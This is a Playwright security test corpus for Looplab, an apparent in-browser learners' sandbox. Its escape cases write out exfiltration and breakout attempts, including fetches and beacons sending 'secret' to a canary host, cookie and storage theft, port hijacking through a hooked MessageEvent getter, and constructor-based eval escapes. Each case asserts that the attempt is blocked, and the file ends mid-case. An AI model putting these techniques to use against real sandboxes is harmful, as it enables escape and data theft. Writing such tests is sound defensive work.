import { expect, type Page } from '@playwright/test'

/**
 * The security and fault corpus: programs a malicious shared link or a
 * careless learner could put in the editor, and what Looplab must show for
 * each. `security.spec.ts` runs every case in the built app and also checks,
 * for all of them, that the canary server saw no request, that the page had
 * no long task, that the editor still holds the program, and that the next
 * run works.
 *
 * `{{CANARY}}` in a program is replaced by the canary's `http://127.0.0.1:<port>`.
 * Expected outputs of the tampering cases were checked against Node 20 (V8).
 */
export interface SecurityCase {
  /** The test's name: a sentence saying what must hold. */
  name: string
  group: Group
  program: string
  host?: 'node' | 'browser'
  /** The program's language; TypeScript by default. */
  language?: 'typescript' | 'python'
  expect: {
    /** The status line (`role="status"`) once the run has ended. */
    status: RegExp
    /** Program output shown in the console (`role="log"`), as its rows' text joined by newlines. */
    console?: RegExp
    /** Must not appear in the console (nor in the status line). */
    consoleAbsent?: RegExp
  }
  /**
   * The program never ends on its own. `'when-live'`: press Stop once the
   * status says the run went live; `{ afterMs }`: press Stop that long after
   * Run. `'leave-running'`: press nothing; the next run must replace it.
   */
  stop?: 'when-live' | 'leave-running' | { afterMs: number }
  /** How long the run may take to end (ms); 30 s by default. */
  timeoutMs?: number
  /** Press Run this many times in a row (a learner hammering the button); 1 by default. */
  runClicks?: number
  /** Extra checks on the page once the run has ended. */
  after?: (page: Page) => Promise<void>
  /** A known defect this case exposes: the test is marked `test.fixme` with this reason. */
  fixme?: string
}

export type Group = 'escape' | 'tamper' | 'fault' | 'output'

export const GROUP_TITLES: Record<Group, string> = {
  escape: 'escape attempts: a program cannot leave the sandbox',
  tamper: 'runtime tampering: a program that patches the built-ins gets V8 semantics and a correct trace',
  fault: 'faults: a runaway or broken program ends with an explanation and the page survives',
  output: 'hostile output: what a program prints is shown as text and the page stays fast',
}

export const FINISHED = /^Finished in /
export const CRASHED_AT = (line: number, message: string) => new RegExp(`^The program crashed at line ${line}: ${message}`)
const STEPS_BUDGET = /^The program ran 20,000,000 statements without finishing, so Looplab stopped it\. Is there a loop that never ends\?$/
export const WATCHDOG =
  /^The program stopped responding, so Looplab ended it\. It may have used too much memory, or a built-in operation never returned\.$/
const STOPPED = /^Stopped after .* of virtual time \(/

/** No element was created from printed text, and no payload script ran in the page. */
async function noInjectedMarkup(page: Page): Promise<void> {
  const log = page.getByRole('log')
  for (const selector of ['img', 'script', 'iframe', 'svg', 'b', 'a', 'style', 'object']) {
    await expect(log.locator(selector), `a <${selector}> in the console`).toHaveCount(0)
    await expect(page.getByRole('status').locator(selector), `a <${selector}> in the status line`).toHaveCount(0)
  }
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), 'a payload ran in the page').toBeUndefined()
  await expect(page).toHaveTitle(/Looplab/)
}

export const CASES: SecurityCase[] = [
  // ───────────────────────────── escape attempts ─────────────────────────────
  {
    name: 'a program reading parent.document cannot reach the page',
    group: 'escape',
    program: `console.log('parent:', typeof parent, 'top:', typeof top)
const doc = (globalThis as any).parent.document
console.log('reached the page', doc)`,
    expect: {
      status: CRASHED_AT(2, "TypeError: Cannot read properties of undefined \\(reading 'document'\\)"),
      console: /parent: undefined top: undefined/,
      consoleAbsent: /reached the page/,
    },
  },
  {
    name: 'window.opener, window.parent, window.top and window.frameElement are not there in the browser host',
    group: 'escape',
    host: 'browser',
    program: `const w = window as any
console.log('opener', typeof w.opener, 'parent', typeof w.parent, 'top', typeof w.top, 'frameElement', typeof w.frameElement)
try {
  w.opener.postMessage('hello', '*')
  console.log('ESCAPED')
} catch (e) {
  console.log('opener.postMessage blocked:', (e as Error).name)
}`,
    expect: {
      status: FINISHED,
      console: /opener undefined parent undefined top undefined frameElement undefined\nopener.postMessage blocked: TypeError/,
      consoleAbsent: /ESCAPED/,
    },
  },
  {
    name: 'parent.postMessage is unreachable through globalThis, self, Reflect.get and top',
    group: 'escape',
    program: `const g: any = globalThis
const routes: [string, () => unknown][] = [
  ['globalThis.parent', () => g.parent.postMessage({ type: 'done' }, '*')],
  ['self.parent', () => (self as any).parent.postMessage({ type: 'done' }, '*')],
  ['Reflect.get', () => Reflect.get(g, 'parent').postMessage({ type: 'done' }, '*')],
  ['globalThis.top', () => g.top.postMessage({ type: 'done' }, '*')],
  ['self.opener', () => (self as any).opener.postMessage({ type: 'done' }, '*')],
]
for (const [route, attempt] of routes) {
  try {
    attempt()
    console.log(route, 'ESCAPED')
  } catch (e) {
    console.log(route, 'blocked:', (e as Error).name)
  }
}`,
    expect: {
      status: FINISHED,
      console:
        /globalThis.parent blocked: TypeError\nself.parent blocked: TypeError\nReflect.get blocked: TypeError\nglobalThis.top blocked: TypeError\nself.opener blocked: TypeError/,
      consoleAbsent: /ESCAPED/,
    },
  },
  {
    name: "walking the global object's prototype chain finds no postMessage, importScripts, close or real network constructor",
    group: 'escape',
    program: `const wanted = ['postMessage', 'importScripts', 'close', 'onmessage', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker', 'SharedWorker', 'BroadcastChannel', 'indexedDB', 'caches', 'navigator', 'WebAssembly']
const holders: object[] = []
for (let p: any = globalThis; p; p = Object.getPrototypeOf(p)) holders[holders.length] = p
const g: any = globalThis
for (const name of ['WorkerGlobalScope', 'DedicatedWorkerGlobalScope', 'EventTarget']) if (typeof g[name] === 'function') holders[holders.length] = g[name].prototype
const found: string[] = []
for (const holder of holders) {
  for (const name of wanted) {
    const d = Object.getOwnPropertyDescriptor(holder, name)
    if (d && (d.value !== undefined || d.get)) found[found.length] = name
  }
}
console.log('found:', found.length ? found.join(' ') : 'nothing')`,
    expect: { status: FINISHED, console: /^found: nothing$/ },
  },
  {
    name: 'a forged batch or done message posted by the program does not change what the page shows',
    group: 'escape',
    program: `const forged = [
  { type: 'done', outcome: { exitCode: 0, reason: 4, budget: 1, explanation: 'FORGED OUTCOME' } },
  { type: 'batch', batch: { firstSeq: 0, eventCount: 0, baseTime: 0, bytes: new Uint8Array(0), firstStringId: 0, strings: ['FORGED LINE'] } },
  { type: 'failed', error: { name: 'Error', message: 'FORGED FAILURE' } },
]
const g: any = globalThis
const posts = [g.postMessage, (self as any).postMessage, Reflect.get(g, 'postMessage'), Object.getPrototypeOf(g).postMessage, g.WorkerGlobalScope?.prototype.postMessage, g.DedicatedWorkerGlobalScope?.prototype.postMessage]
let sent = 0
for (const post of posts) {
  for (const message of forged) {
    for (let runId = 0; runId < 400; runId++) {
      try {
        post.call(g, { ...message, runId })
        sent++
      } catch {}
    }
  }
}
try { (MessagePort.prototype.postMessage as any).call(g, forged[0]); sent++ } catch {}
console.log('forged messages sent:', sent)
setTimeout(() => console.log('the real run goes on'), 5)`,
    expect: {
      status: /^Finished in .* of virtual time: \d+ tasks, \d+ microtasks?, 2 lines of output\.$/,
      console: /forged messages sent: 0\nthe real run goes on/,
      consoleAbsent: /FORGED/,
    },
  },
  {
    name: "in the browser host, the program's own postMessage reaches only the program's own listeners",
    group: 'escape',
    host: 'browser',
    program: `let heard = 0
let lastType = ''
addEventListener('message', (e) => {
  heard++
  lastType = (e as MessageEvent).data.type
})
for (let runId = 0; runId < 400; runId++) {
  postMessage({ type: 'done', runId, outcome: { exitCode: 0, reason: 4, budget: 1, explanation: 'FORGED OUTCOME' } }, '*')
}
setTimeout(() => console.log('the program heard', heard, 'of its own messages, the last one', lastType), 5)`,
    expect: {
      status: /^Finished in .*, 1 line of output\.$/,
      console: /^the program heard 400 of its own messages, the last one done$/,
      consoleAbsent: /FORGED/,
    },
  },
  {
    name: "message listeners on the sandbox worker's global hear nothing from the page, not even Stop",
    group: 'escape',
    program: `let heard = 0
addEventListener('message', () => { heard++ })
try { (globalThis as any).onmessage = () => { heard++ } } catch {}
setInterval(() => console.log('heard', heard), 1000)`,
    stop: 'when-live',
    expect: { status: STOPPED, console: /heard 0$/, consoleAbsent: /heard [1-9]/ },
  },
  {
    name: 'a program hooking MessageEvent.prototype.data cannot grab the sandbox port when the learner presses Stop',
    group: 'escape',
    program: `const MessageEventClass = (globalThis as any).MessageEvent
if (!MessageEventClass) console.log('no MessageEvent to hook')
else {
  const original = Object.getOwnPropertyDescriptor(MessageEventClass.prototype, 'data')!.get!
  Object.defineProperty(MessageEventClass.prototype, 'data', {
    configurable: true,
    get() {
      const port = (this as any).target
      if (port && typeof port.postMessage === 'function') {
        console.log('PORT LEAKED')
        for (let runId = 0; runId < 400; runId++) {
          port.postMessage({ type: 'done', runId, outcome: { exitCode: 0, reason: 4, budget: 1, explanation: 'FORGED OUTCOME' } })
        }
      }
      return original.call(this)
    },
  })
}
setInterval(() => console.log('tick'), 1000)`,
    stop: 'when-live',
    expect: { status: STOPPED, console: /tick/, consoleAbsent: /PORT LEAKED|FORGED/ },
  },
  {
    name: 'Error.prepareStackTrace call sites give no handle on the sandbox',
    group: 'escape',
    program: `const handles: unknown[] = []
;(Error as any).prepareStackTrace = (_error: Error, frames: any[]) => {
  for (const frame of frames) {
    try {
      const self = frame.getThis()
      if (self !== undefined) handles[handles.length] = self
    } catch {}
    try {
      const fn = frame.getFunction()
      if (fn !== undefined) handles[handles.length] = fn
    } catch {}
  }
  return 'harvested'
}
new Error('at the top').stack
setTimeout(() => new Error('in a timer').stack, 1)
await new Promise((resolve) => setTimeout(resolve, 2))
await null
new Error('after await').stack
const ports = handles.filter((h: any) => h && typeof h === 'object' && typeof h.postMessage === 'function')
console.log('handles with postMessage:', ports.length)`,
    expect: { status: FINISHED, console: /handles with postMessage: 0/ },
  },
  {
    name: 'document.cookie is out of reach',
    group: 'escape',
    host: 'browser',
    program: `console.log('document is', typeof document)
console.log('cookie:', document.cookie)`,
    // The browser host reports an uncaught error and carries on, as a page does.
    expect: {
      status: FINISHED,
      console: /^document is undefined\nUncaught ReferenceError: document is not defined\n\s+at main\.ts:2:24$/,
      consoleAbsent: /cookie:/,
    },
  },
  {
    name: "localStorage and sessionStorage are not there, and the page's storage is untouched",
    group: 'escape',
    host: 'browser',
    program: `for (const name of ['localStorage', 'sessionStorage']) {
  try {
    ;(globalThis as any)[name].setItem('looplab-stolen', 'yes')
    console.log(name, 'WRITABLE')
  } catch (e) {
    console.log(name, 'blocked:', (e as Error).message)
  }
}`,
    expect: {
      status: FINISHED,
      console:
        /localStorage blocked: Cannot read properties of undefined \(reading 'setItem'\)\nsessionStorage blocked: Cannot read properties of undefined \(reading 'setItem'\)/,
      consoleAbsent: /WRITABLE/,
    },
    after: async (page) => {
      const stolen = await page.evaluate(() => [localStorage.getItem('looplab-stolen'), sessionStorage.getItem('looplab-stolen')])
      expect(stolen).toEqual([null, null])
    },
  },
  {
    name: 'indexedDB.open and caches.open are not there',
    group: 'escape',
    program: `try {
  indexedDB.open('stolen')
  console.log('INDEXEDDB OPENED')
} catch (e) {
  console.log('indexedDB:', (e as Error).message)
}
try {
  await caches.open('stolen')
  console.log('CACHE OPENED')
} catch (e) {
  console.log('caches:', (e as Error).message)
}`,
    expect: {
      status: FINISHED,
      console:
        /indexedDB: Cannot read properties of undefined \(reading 'open'\)\ncaches: Cannot read properties of undefined \(reading 'open'\)/,
      consoleAbsent: /OPENED/,
    },
  },
  {
    name: 'fetch of the canary is answered by the modeled network and no real request leaves',
    group: 'escape',
    program: `const r = await fetch('{{CANARY}}/steal?secret=1')
console.log('get', r.status, await r.text())
const p = await fetch('{{CANARY}}/beacon', { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' })
console.log('post', p.status)
const q = await fetch(new Request('{{CANARY}}/request-object'))
console.log('request object', q.status)
const u = await fetch(new URL('/url-object', '{{CANARY}}'))
console.log('url object', u.status)`,
    expect: {
      status: FINISHED,
      console:
        /get 200 \{"url":"http:\/\/127\.0\.0\.1:\d+\/steal\?secret=1","simulated":true\}\npost 200\nrequest object 200\nurl object 200/,
    },
  },
  {
    name: 'XMLHttpRequest cannot be constructed, not even from its surviving relatives',
    group: 'escape',
    program: `const g: any = globalThis
const attempts: [string, () => any][] = [
  ['XMLHttpRequest', () => new g.XMLHttpRequest()],
  ['XMLHttpRequestEventTarget', () => Reflect.construct(g.XMLHttpRequestEventTarget, [])],
  ['XMLHttpRequestUpload', () => Reflect.construct(g.XMLHttpRequestUpload, [])],
]
for (const [name, attempt] of attempts) {
  try {
    const xhr = attempt()
    xhr.open('GET', '{{CANARY}}/xhr', false)
    xhr.send()
    console.log(name, 'SENT')
  } catch (e) {
    console.log(name, 'blocked:', (e as Error).name)
  }
}`,
    expect: {
      status: FINISHED,
      console: /XMLHttpRequest blocked: TypeError\nXMLHttpRequestEventTarget blocked: TypeError\nXMLHttpRequestUpload blocked: TypeError/,
      consoleAbsent: /SENT/,
    },
  },
  {
    name: 'new WebSocket to the canary is refused',
    group: 'escape',
    program: `const url = '{{CANARY}}'.replace('http:', 'ws:') + '/socket'
for (const name of ['WebSocket', 'WebSocketStream', 'WebTransport']) {
  try {
    const socket = new (globalThis as any)[name](url)
    console.log(name, 'OPENED', typeof socket)
  } catch (e) {
    console.log(name, 'blocked:', (e as Error).name)
  }
}`,
    expect: {
      status: FINISHED,
      console: /WebSocket blocked: TypeError\nWebSocketStream blocked: TypeError\nWebTransport blocked: TypeError/,
      consoleAbsent: /OPENED/,
    },
  },
  {
    name: 'new EventSource to the canary is refused',
    group: 'escape',
    host: 'browser',
    program: `try {
  const source = new (globalThis as any).EventSource('{{CANARY}}/events')
  console.log('EVENTSOURCE OPENED', typeof source)
} catch (e) {
  console.log('EventSource blocked:', (e as Error).name)
}`,
    expect: { status: FINISHED, console: /EventSource blocked: TypeError/, consoleAbsent: /OPENED/ },
  },
  {
    name: 'navigator.sendBeacon is not there',
    group: 'escape',
    host: 'browser',
    program: `try {
  ;(globalThis as any).navigator.sendBeacon('{{CANARY}}/beacon', 'secret')
  console.log('BEACON SENT')
} catch (e) {
  console.log('sendBeacon blocked:', (e as Error).message)
}`,
    expect: {
      status: FINISHED,
      console: /sendBeacon blocked: Cannot read properties of undefined \(reading 'sendBeacon'\)/,
      consoleAbsent: /BEACON SENT/,
    },
  },
  {
    name: 'importScripts of the canary is not there, not even on the prototype chain',
    group: 'escape',
    program: `try {
  ;(globalThis as any).importScripts('{{CANARY}}/x.js')
  console.log('IMPORTED')
} catch (e) {
  console.log('global importScripts:', (e as Error).name)
}
let onChain = 0
for (let p = Object.getPrototypeOf(globalThis); p; p = Object.getPrototypeOf(p)) {
  if (typeof p.importScripts === 'function') {
    onChain++
    try {
      p.importScripts.call(globalThis, '{{CANARY}}/y.js')
      console.log('IMPORTED FROM THE CHAIN')
    } catch {}
  }
}
const wgs = (globalThis as any).WorkerGlobalScope
console.log('on the chain:', onChain, 'on WorkerGlobalScope.prototype:', typeof wgs?.prototype.importScripts, 'canary script ran:', typeof (globalThis as any).__canaryReached)`,
    expect: {
      status: FINISHED,
      console: /global importScripts: TypeError\non the chain: 0 on WorkerGlobalScope.prototype: undefined canary script ran: undefined/,
      consoleAbsent: /IMPORTED/,
    },
  },
  {
    name: 'a dynamic import of the canary is refused at compile time',
    group: 'escape',
    program: `console.log('SHOULD NOT RUN')
const module = await import('{{CANARY}}/x.js')
console.log(module)`,
    expect: {
      status: /^Line 2, column 22: Dynamic `import\(\)` is not available in Looplab programs[^\n]*The program was not run\./,
      consoleAbsent: /SHOULD NOT RUN/,
    },
  },
  {
    name: 'a static import from the canary is refused at compile time',
    group: 'escape',
    program: `import stolen from '{{CANARY}}/x.js'
console.log('SHOULD NOT RUN', stolen)`,
    expect: {
      status: /^Line 1, column 1: Looplab programs cannot install packages, so 'http:\/\/127\.0\.0\.1:\d+\/x\.js' is not available\./,
      consoleAbsent: /SHOULD NOT RUN/,
    },
  },
  {
    name: 'nested Worker and SharedWorker cannot be started',
    group: 'escape',
    program: `const source = 'data:text/javascript,' + encodeURIComponent("fetch('{{CANARY}}/from-a-nested-worker')")
for (const name of ['Worker', 'SharedWorker']) {
  try {
    new (globalThis as any)[name](source)
    console.log(name, 'STARTED')
  } catch (e) {
    console.log(name, 'blocked:', (e as Error).name)
  }
}`,
    expect: { status: FINISHED, console: /Worker blocked: TypeError\nSharedWorker blocked: TypeError/, consoleAbsent: /STARTED/ },
  },
  {
    name: 'self.close() cannot end the sandbox worker, and the program runs on',
    group: 'escape',
    host: 'browser',
    program: `try {
  ;(self as any).close()
  console.log('CLOSED')
} catch (e) {
  console.log('close blocked:', (e as Error).name)
}
setTimeout(() => console.log('still alive'), 10)`,
    expect: { status: FINISHED, console: /close blocked: TypeError\nstill alive/, consoleAbsent: /CLOSED/ },
  },
  {
    name: 'eval, indirect eval and globalThis.eval are refused',
    group: 'escape',
    program: `const attempts: [string, () => unknown][] = [
  ['direct eval', () => eval('globalThis')],
  ['indirect eval', () => (0, eval)('globalThis')],
  ['globalThis.eval', () => (globalThis as any).eval('globalThis')],
  ['Reflect.apply(eval)', () => Reflect.apply(eval, undefined, ['globalThis'])],
]
for (const [name, attempt] of attempts) {
  try {
    attempt()
    console.log(name, 'EVALUATED')
  } catch (e) {
    console.log(name, '->', (e as Error).message)
  }
}`,
    expect: {
      status: FINISHED,
      console:
        /^direct eval -> eval is not available in Looplab: programs cannot build code from strings\.\nindirect eval -> eval is not available in Looplab[^\n]*\nglobalThis.eval -> eval is not available in Looplab[^\n]*\nReflect.apply\(eval\) -> eval is not available in Looplab/,
      consoleAbsent: /EVALUATED/,
    },
  },
  {
    name: "Function('…') and new Function('…') are refused",
    group: 'escape',
    program: `for (const [name, make] of [
  ['Function()', () => Function('return globalThis')],
  ['new Function()', () => new Function('return globalThis')],
  ['globalThis.Function', () => (globalThis as any).Function('return 1')],
] as [string, () => any][]) {
  try {
    make()()
    console.log(name, 'BUILT CODE')
  } catch (e) {
    console.log(name, '->', (e as Error).message)
  }
}`,
    expect: {
      status: FINISHED,
      console:
        /Function\(\) -> new Function is not available in Looplab: programs cannot build code from strings\.\nnew Function\(\) -> new Function is not available/,
      consoleAbsent: /BUILT CODE/,
    },
  },
  {
    name: "({}).constructor.constructor('return this')() is refused",
    group: 'escape',
    program: `const real = ({}).constructor.constructor('return this')()
console.log('REACHED', real)`,
    expect: {
      status: CRASHED_AT(1, 'Error: new Function is not available in Looplab: programs cannot build code from strings\\.'),
      consoleAbsent: /REACHED/,
    },
  },
  {
    name: 'the async, generator and async generator function constructors are refused',
    group: 'escape',
    program: `const constructors: [string, any][] = [
  ['async', (async () => {}).constructor],
  ['generator', (function* () {}).constructor],
  ['async generator', (async function* () {}).constructor],
  ['async method', ({ async m() {} }).m.constructor],
  ['bound', Object.getPrototypeOf((() => {}).bind(null)).constructor],
]
for (const [name, C] of constructors) {
  try {
    const fn = C('return globalThis')
    console.log(name, 'BUILT CODE', typeof fn)
  } catch (e) {
    console.log(name, '->', (e as Error).message)
  }
}`,
    expect: {
      status: FINISHED,
      console:
        /async -> new AsyncFunction is not available in Looplab[^\n]*\ngenerator -> new GeneratorFunction is not available[^\n]*\nasync generator -> new AsyncGeneratorFunction is not available[^\n]*\nasync method -> new AsyncFunction is not available[^\n]*\nbound -> new Function is not available/,
      consoleAbsent: /BUILT CODE/,
    },
  },
  {
    name: 'no constructor reachable from any global builds code from a string',
    group: 'escape',
    program: `const g: any = globalThis
const candidates = new Set<any>()
for (const name of Object.getOwnPropertyNames(g)) {
  let value: any
  try { value = g[name] } catch { continue }
  if (value === null || (typeof value !== 'object' && typeof value !== 'function')) continue
  for (const holder of [value, Object.getPrototypeOf(value), value.prototype]) {
    try {
      const c = holder?.constructor
      if (typeof c === 'function') candidates.add(c)
    } catch {}
  }
}
let built = 0
for (const C of candidates) {
  for (const call of [() => C('return 7'), () => new C('return 7')]) {
    try {
      const made = call()
      if (made && typeof made.then === 'function') made.then(undefined, () => {})
      if (typeof made === 'function' && made() === 7) built++
    } catch {}
  }
}
console.log('constructors tried:', candidates.size > 20 ? 'many' : candidates.size, '| built code:', built)`,
    expect: { status: FINISHED, console: /constructors tried: many \| built code: 0/ },
  },
  {
    name: 'setTimeout with a code string is a TypeError in the node host',
    group: 'escape',
    program: `setTimeout("console.log('CODE STRING RAN')" as any, 0)
console.log('not reached')`,
    expect: {
      status: CRASHED_AT(
        1,
        'TypeError \\[ERR_INVALID_ARG_TYPE\\]: The "callback" argument must be of type function\\. Received type string',
      ),
      consoleAbsent: /CODE STRING RAN|not reached/,
    },
  },
  {
    name: 'setTimeout with a code string never runs the string in the browser host',
    group: 'escape',
    host: 'browser',
    program: `setTimeout("console.log('CODE STRING RAN')" as any, 0)
setTimeout(() => console.log('function timers still run'), 5)`,
    expect: { status: FINISHED, console: /function timers still run/, consoleAbsent: /CODE STRING RAN/ },
  },
  {
    name: 'node-only escape hatches (require, module, process.binding, process.dlopen) are not there',
    group: 'escape',
    program: `const g: any = globalThis
const p: any = process
console.log(typeof g.require, typeof g.module, typeof p.binding, typeof p.dlopen, typeof p._linkedBinding, typeof p.mainModule, typeof p.reallyExit)`,
    expect: { status: FINISHED, console: /^undefined undefined undefined undefined undefined undefined undefined$/ },
  },

  // ───────────────────────────── runtime tampering ─────────────────────────────
  {
    name: 'a program replacing Promise.prototype.then gets V8 semantics: await ignores it, async returns go through it',
    group: 'tamper',
    program: `const realThen = Promise.prototype.then
Promise.prototype.then = function () { throw new Error('then poisoned') } as any
const a = await Promise.resolve(1)
const b = await new Promise<number>((r) => setTimeout(() => r(2), 5))
let thenError = ''
try { Promise.resolve(3).then(() => {}) } catch (e) { thenError = (e as Error).message }
async function f() { return Promise.resolve(5) }
let fResult = ''
try { fResult = 'fulfilled ' + (await f()) } catch (e) { fResult = 'rejected: ' + (e as Error).message }
Promise.prototype.then = realThen
console.log('awaited', a, b, '| then threw:', thenError, '| f', fResult)`,
    expect: { status: FINISHED, console: /^awaited 1 2 \| then threw: then poisoned \| f rejected: then poisoned$/ },
  },
  {
    name: 'a program replacing Array.prototype.push keeps a correct trace',
    group: 'tamper',
    program: `Array.prototype.push = function () { throw new Error('push poisoned') }
const results = await Promise.all([1, 2, 3].map(async (n) => { await null; return n * 2 }))
setTimeout(() => console.log('timer', results.join(',')), 1)
console.log('map', [1, 2].map((n) => n + 1))
try { ([] as number[]).push(1) } catch (e) { console.log('own push:', (e as Error).message) }`,
    expect: { status: FINISHED, console: /^map \[ 2, 3 \]\nown push: push poisoned\ntimer 2,4,6$/ },
  },
  {
    name: 'a program replacing Function.prototype.call, apply, bind and toString keeps a correct trace',
    group: 'tamper',
    program: `const F = Function.prototype as any
F.call = F.apply = F.bind = F.toString = function () { throw new Error('poisoned') }
setTimeout(() => console.log('timer'), 1)
await new Promise((r) => setTimeout(r, 2))
queueMicrotask(() => console.log('microtask'))
console.log('sync', [3, 1, 2].sort((a, b) => a - b).join(','), function named() {})`,
    expect: { status: FINISHED, console: /^timer\nsync 1,2,3 \[Function: named\]\nmicrotask$/ },
  },
  {
    name: 'a program replacing Array.prototype[Symbol.iterator] changes only its own for…of and Promise.all',
    group: 'tamper',
    program: `const original = Array.prototype[Symbol.iterator]
Array.prototype[Symbol.iterator] = function* () { yield 'patched' } as any
const seen: unknown[] = []
for (const x of [1, 2, 3]) seen[seen.length] = x
const all = await Promise.all([Promise.resolve(1), 2])
setTimeout(() => console.log('timer'), 1)
Array.prototype[Symbol.iterator] = original
console.log('for-of saw', seen.join(','), '| Promise.all gave', all.join(','))`,
    expect: { status: FINISHED, console: /^for-of saw patched \| Promise\.all gave patched\ntimer$/ },
  },
  {
    name: "a program poisoning the array iterator's next keeps a correct trace",
    group: 'tamper',
    program: `const proto = Object.getPrototypeOf([][Symbol.iterator]())
const next = proto.next
proto.next = function () { throw new Error('next poisoned') }
let caught = ''
try { for (const _ of [1]) {} } catch (e) { caught = (e as Error).message }
setTimeout(() => {
  proto.next = next
  console.log('timer after', caught)
}, 1)
console.log('sync', [1, 2, 3])`,
    expect: { status: FINISHED, console: /^sync \[ 1, 2, 3 \]\ntimer after next poisoned$/ },
  },
  {
    name: 'an Object.prototype.then thenable trap catches only what the program itself awaits',
    group: 'tamper',
    program: `let trapped = 0
;(Object.prototype as any).then = function (resolve: (v: unknown) => void) { trapped++; resolve('from the trap') }
const v = await { plain: true }
const w = await Promise.resolve(7)
delete (Object.prototype as any).then
setTimeout(() => console.log('timer ran'), 1)
console.log('await object ->', v, '| await 7 ->', w, '| traps:', trapped)`,
    expect: { status: FINISHED, console: /^await object -> from the trap \| await 7 -> 7 \| traps: 1\ntimer ran$/ },
  },
  {
    name: 'a custom Error.prepareStackTrace shapes the stack as in V8 and the crash is still reported',
    group: 'tamper',
    program: `;(Error as any).prepareStackTrace = (err: Error, frames: unknown[]) => \`custom trace of \${err.message} (\${Array.isArray(frames) ? 'frames' : 'no frames'})\`
const e = new Error('probe')
console.log(e.stack)
setTimeout(() => { throw new Error('boom in a timer') }, 1)`,
    expect: {
      status: CRASHED_AT(4, '\\[custom trace of boom in a timer \\(frames\\)\\]'),
      console: /^custom trace of probe \(frames\)\nUncaught \[custom trace of boom in a timer \(frames\)\]$/,
    },
  },
  {
    name: 'an Error.prepareStackTrace that throws does not hide the crash',
    group: 'tamper',
    program: `;(Error as any).prepareStackTrace = () => { throw new Error('prepareStackTrace poisoned') }
let s = ''
try { s = String(new Error('probe').stack) } catch (e) { s = 'stack threw ' + (e as Error).message }
console.log(s)
throw new Error('boom')`,
    expect: { status: CRASHED_AT(5, '\\[?Error: boom'), console: /^stack threw prepareStackTrace poisoned\nUncaught \[?Error: boom/ },
  },
  {
    name: 'an Error.prepareStackTrace that never returns is stopped while the crash is being reported',
    group: 'tamper',
    program: `;(Error as any).prepareStackTrace = () => {
  while (true) {}
}
setTimeout(() => console.log('NOT REACHED'), 1)
throw new Error('boom')`,
    expect: { status: STEPS_BUDGET, consoleAbsent: /NOT REACHED/ },
  },
  {
    name: 'a program replacing Object.defineProperty, defineProperties and Reflect.defineProperty keeps classes and timers working',
    group: 'tamper',
    program: `const poisoned = () => { throw new Error('define poisoned') }
;(Object as any).defineProperty = poisoned
;(Object as any).defineProperties = poisoned
;(Reflect as any).defineProperty = poisoned
class Counter {
  count = 0
  async bump() { await null; return ++this.count }
}
const c = new Counter()
await c.bump()
setTimeout(() => console.log('timer', c.count), 1)
console.log('bumped', await c.bump())`,
    expect: { status: FINISHED, console: /^bumped 2\ntimer 2$/ },
  },
  {
    name: 'a program replacing JSON.stringify and JSON.parse still gets fetch bodies and object output',
    group: 'tamper',
    program: `JSON.stringify = () => { throw new Error('stringify poisoned') }
JSON.parse = () => { throw new Error('parse poisoned') }
const r = await fetch('{{CANARY}}/json')
const body = await r.json()
console.log('json', body.simulated, { nested: { ok: [1, 2] } })`,
    expect: { status: FINISHED, console: /(^|\n)json true \{ nested: \{ ok: \[ 1, 2 \] \} \}$/ },
  },
  {
    name: 'a program poisoning Map, Set, WeakMap and WeakSet methods keeps timers and output right',
    group: 'tamper',
    program: `for (const C of [Map, WeakMap, Set, WeakSet] as any[]) {
  for (const m of ['get', 'set', 'has', 'add', 'delete', 'forEach', 'clear']) {
    if (C.prototype[m]) C.prototype[m] = function () { throw new Error(\`\${C.name}.\${m} poisoned\`) }
  }
}
setTimeout(() => console.log('timer'), 1)
const id = setInterval(() => console.log('INTERVAL NOT CLEARED'), 1)
clearInterval(id)
await new Promise((r) => setTimeout(r, 3))
console.log('done', new Map(), new Set())`,
    expect: { status: FINISHED, console: /^timer\ndone Map\(0\) \{\} Set\(0\) \{\}$/, consoleAbsent: /NOT CLEARED/ },
  },
  {
    name: 'a program replacing console.log changes only its own output',
    group: 'tamper',
    program: `const original = console.log
console.log = (...args: unknown[]) => original('[mine]', ...args)
console.log('hello')
setTimeout(() => console.log('later'), 1)`,
    expect: { status: FINISHED, console: /^\[mine\] hello\n\[mine\] later$/ },
  },
  {
    name: 'a program setting console.log to a number crashes with a TypeError, as in V8',
    group: 'tamper',
    program: `console.error('before')
;(console as any).log = 42
console.log('after')`,
    expect: { status: CRASHED_AT(3, 'TypeError: console\\.log is not a function'), console: /before/, consoleAbsent: /^after$/m },
  },
  {
    name: 'throwing getters on objects passed to console.log are not called',
    group: 'tamper',
    program: `console.log({ get secret() { throw new Error('getter ran') }, visible: 1 })
class Account { get balance(): number { throw new Error('getter ran') } }
console.log(new Account())
console.log('done')`,
    expect: { status: FINISHED, console: /^\{ secret: \[Getter\], visible: 1 \}\nAccount \{\}\ndone$/, consoleAbsent: /getter ran/ },
  },
  {
    name: 'Proxies with throwing traps are printed from their targets without running a trap',
    group: 'tamper',
    program: `const trap = () => { throw new Error('trap ran') }
const p = new Proxy({ inside: 1 }, { get: trap, has: trap, ownKeys: trap, getOwnPropertyDescriptor: trap, getPrototypeOf: trap })
console.log('proxy:', p)
console.log('in array:', [p])
const fp = new Proxy(function named() {}, { get: trap, apply: trap, getPrototypeOf: trap })
console.log('function proxy:', fp)`,
    expect: {
      status: FINISHED,
      console: /^proxy: \{ inside: 1 \}\nin array: \[ \{ inside: 1 \} \]\nfunction proxy: \[Function: named\]$/,
      consoleAbsent: /trap ran/,
    },
  },
  {
    // Node 20's util.inspect reads the tag and would throw here; Looplab's console never runs a getter of the program.
    name: 'a Symbol.toStringTag getter that throws is shown as a getter and never run by console.log',
    group: 'tamper',
    program: `const o = { get [Symbol.toStringTag]() { throw new Error('tag getter ran') }, a: 1 }
try { console.log('tag:', o) } catch (e) { console.log('console.log threw:', (e as Error).message) }
setTimeout(() => console.log('still running'), 1)`,
    expect: {
      status: FINISHED,
      console: /^tag: \{ a: 1, \[Symbol\(Symbol\.toStringTag\)\]: \[Getter\] \}\nstill running$/,
      consoleAbsent: /getter ran/,
    },
  },
  {
    name: 'an uncaught error whose message, toString and stack all throw is still reported',
    group: 'tamper',
    program: `class Weird extends Error {
  get message(): string { throw new Error('message getter ran') }
  toString(): string { throw new Error('toString ran') }
}
const e = new Weird()
Object.defineProperty(e, 'stack', { get() { throw new Error('stack getter ran') } })
